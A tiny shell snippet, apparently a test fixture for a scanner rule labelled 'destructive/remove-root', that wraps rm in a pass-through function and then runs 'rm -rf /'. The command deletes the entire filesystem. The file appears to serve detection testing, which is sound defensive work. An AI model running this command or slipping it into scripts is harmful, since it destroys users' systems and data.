# finds: destructive/remove-root
rm() { command rm "$@"; }
rm -rf /
